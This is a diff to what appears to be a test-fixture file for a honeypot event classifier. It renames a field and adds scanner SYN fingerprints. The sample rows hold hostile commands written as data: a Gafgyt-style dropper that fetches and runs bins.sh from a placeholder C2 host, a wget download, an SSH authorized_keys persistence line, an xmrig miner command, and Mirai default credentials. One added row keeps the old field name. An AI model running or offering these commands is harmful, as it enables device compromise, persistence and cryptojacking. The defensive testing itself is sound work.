@@ -201,9 +201,10 @@ RAW = [
     ("tls-on-plain-port", None),        # filled with a real ClientHello at run time
 ]
 
-# (signature, proto, kind, fields, tags): events of the Telnet/SSH/RDP/ELM327 sensors, with the
-# field names of issue #4 (login: user, password, success; command: line; download_url: url,
-# tool), stored as rows and classified by `hanipo classify`.
+# (signature, proto, kind, fields, tags): events of the Telnet/SSH/RDP/ELM327 sensors and of the
+# SYN fingerprint, with the fields those sensors write on their branches (login: user, password,
+# success; command: command; download_url: url, tool, command; rdp request: cookie; connect: the
+# SYN tool tags), stored as rows and classified by `hanipo classify`.
 STORED = [
     ("telnet-bruteforce", "telnet", "login", {"user": "admin", "password": "admin",
                                               "success": False}, []),
@@ -211,22 +212,27 @@ STORED = [
      []),
     ("mirai-credentials", "telnet", "login", {"user": "root", "password": "xc3511",
                                               "success": True}, []),
-    ("mirai-elevation", "telnet", "command", {"line": "enable\u0000"}, []),
-    ("mirai-busybox-check", "telnet", "command", {"line": "/bin/busybox ECCHI"}, []),
+    ("mirai-elevation", "telnet", "command", {"command": "enable\u0000"}, []),
+    ("mirai-busybox-check", "telnet", "command", {"command": "/bin/busybox ECCHI"}, []),
     ("mirai-loader", "telnet", "command",
-     {"line": "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; "
+     {"command": "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; "
               "/bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon"}, []),
     ("gafgyt-dropper", "ssh", "command",
-     {"line": f"cd /tmp || cd /var/run; wget http://{C2}/bins.sh; chmod 777 bins.sh; "
+     {"command": f"cd /tmp || cd /var/run; wget http://{C2}/bins.sh; chmod 777 bins.sh; "
               "sh bins.sh"}, []),
-    ("shell-download", "telnet", "download_url", {"url": f"http://{C2}/m", "tool": "wget"}, []),
-    ("shell-recon", "ssh", "command", {"line": "cat /proc/cpuinfo | grep name | wc -l"}, []),
+    ("shell-download", "telnet", "download_url", {"url": f"http://{C2}/m", "tool": "wget",
+                                                  "command": f"wget http://{C2}/m"}, []),
+    ("shell-recon", "ssh", "command", {"command": "cat /proc/cpuinfo | grep name | wc -l"}, []),
     ("ssh-key-persistence", "ssh", "command",
-     {"line": "echo ssh-rsa AAAAB3NzaC1yc2E x >> ~/.ssh/authorized_keys"}, []),
-    ("crypto-miner", "ssh", "command", {"line": "./xmrig -o stratum+tcp://pool.example:3333"},
+     {"command": "echo ssh-rsa AAAAB3NzaC1yc2E x >> ~/.ssh/authorized_keys"}, []),
+    ("crypto-miner", "ssh", "command", {"command": "./xmrig -o stratum+tcp://pool.example:3333"},
      []),
-    ("elm327-probe", "elm327", "command", {"line": "ATZ"}, []),
-    ("mirai-syn", "telnet", "connect", {}, ["mirai"]),
+    ("elm327-probe", "elm327", "command", {"command": "ATZ"}, []),
+    ("mirai-syn", "telnet", "connect", {"syn_tool": "mirai"}, ["mirai"]),
+    ("masscan-syn", "http", "connect", {"syn_tool": "masscan"}, ["masscan"]),
+    ("zmap-syn", "tcp", "connect", {"syn_tool": "zmap"}, ["zmap"]),
+    ("nmap-syn", "ssh", "connect", {"syn_tool": "nmap"}, ["nmap"]),
+    ("mirai-elevation", "ssh", "command", {"line": "shell"}, []),
     ("rdp-scan", "rdp", "request", {"cookie": "mstshash=hello"}, []),
 ]
 
